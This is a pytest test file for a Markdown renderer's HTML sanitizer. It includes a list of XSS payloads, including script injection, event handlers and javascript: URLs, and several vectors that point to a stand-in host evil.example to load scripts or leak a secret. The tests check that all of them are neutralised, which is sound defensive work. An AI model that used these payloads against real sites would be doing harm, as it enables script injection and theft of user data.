import re
from html.parser import HTMLParser

import pytest

from smartnotes.ai import render_markdown, sanitize_html


def test_basic_markdown():
    html = render_markdown("# Title\n\nSome **bold** and *italic* and `code`.\n\n- a\n- b\n\n1. one\n2. two")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html
    assert "<code>code</code>" in html
    assert "<ul>" in html and "<ol>" in html and "<li>a</li>" in html


def test_fenced_code_and_tables():
    text = "```python\nif a < b:\n    print('<b>')\n```\n\n| A | B |\n|---|---|\n| 1 | 2 |\n"
    html = render_markdown(text)
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b:" in html and "&lt;b&gt;" in html
    assert "<table>" in html and "<th>A</th>" in html and "<td>2</td>" in html


def test_links_get_rel_and_safe_schemes_survive():
    html = render_markdown("[site](https://example.org/x?a=1&b=2) [mail](mailto:a@b.org) [page](/lectures/3/?p=7)")
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert 'href="https://example.org/x?a=1&amp;b=2"' in html
    assert 'href="mailto:a@b.org"' in html
    assert 'href="/lectures/3/?p=7"' in html


def test_citation_text_is_kept():
    html = render_markdown("Heaps are trees [Lecture 3, p. 7].")
    assert "[Lecture 3, p. 7]" in html


XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '[x](https://example.org "onmouseover=alert(1)")',
    "![x](https://evil.example/leak?secret=1)",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)">click</p>',
    "<form action=https://evil.example><input name=p></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    '<a href="https://ok.example" onmouseover="alert(1)" target="_blank">ok</a>',
    "<object data=javascript:alert(1)></object>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "`<script>alert(1)</script>` and\n\n    <script>indented()</script>",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attr: value})
        self.comments = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


ALLOWED = {
    "p", "br", "hr", "strong", "em", "b", "i", "code", "pre", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "a", "span",
}  # fmt: skip
ALLOWED_ATTRS = {"a": {"href", "rel"}, "span": {"class"}, "code": {"class"}, "ol": {"start"}}


def assert_safe(html):
    """Parse the output like a browser would and check every element and attribute against the allow-list."""
    parser = _Collector()
    parser.feed(html)
    parser.close()
    assert not parser.comments, html
    for tag, attrs in parser.elements:
        assert tag in ALLOWED, f"<{tag}> in {html!r}"
        assert set(attrs) <= ALLOWED_ATTRS.get(tag, set()), f"<{tag} {attrs}> in {html!r}"
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer nofollow"
            href = re.sub(r"[\x00-\x20]", "", attrs.get("href") or "")
            scheme = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", href)
            assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto"}, href
    # Escaped markup is text, which is fine; real markup never survives:
    assert "<script" not in html.lower() and "<style" not in html.lower()


@pytest.mark.parametrize("allow_html", [False, True])
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vectors_are_neutralised(vector, allow_html):
    assert_safe(render_markdown(vector, allow_html=allow_html))


def test_dangerous_markup_is_removed_not_just_hidden():
    html = render_markdown('<p onclick="alert(1)">click</p><img src=x onerror=alert(1)>', allow_html=True)
    assert html == "<p>click</p>"
    html = render_markdown("[x](javascript:alert(1)) [y](https://ok.example)")
    assert "javascript" not in html
    assert '<a href="https://ok.example" rel="noopener noreferrer nofollow">y</a>' in html


def test_raw_html_is_shown_as_text_by_default():
    html = render_markdown("Use the <div> tag and <b>bold</b>.")
    assert "&lt;div&gt;" in html and "&lt;b&gt;bold&lt;/b&gt;" in html


def test_allowed_raw_html_passes_when_enabled():
    html = render_markdown('Answer <span class="cite" onclick="x()">[L1, p. 2]</span>', allow_html=True)
    assert '<span class="cite">[L1, p. 2]</span>' in html


def test_sanitize_html_directly():
    assert sanitize_html("<p>ok<script>bad()</script></p>") == "<p>ok</p>"
    assert render_markdown("") == "" and render_markdown(None) == ""
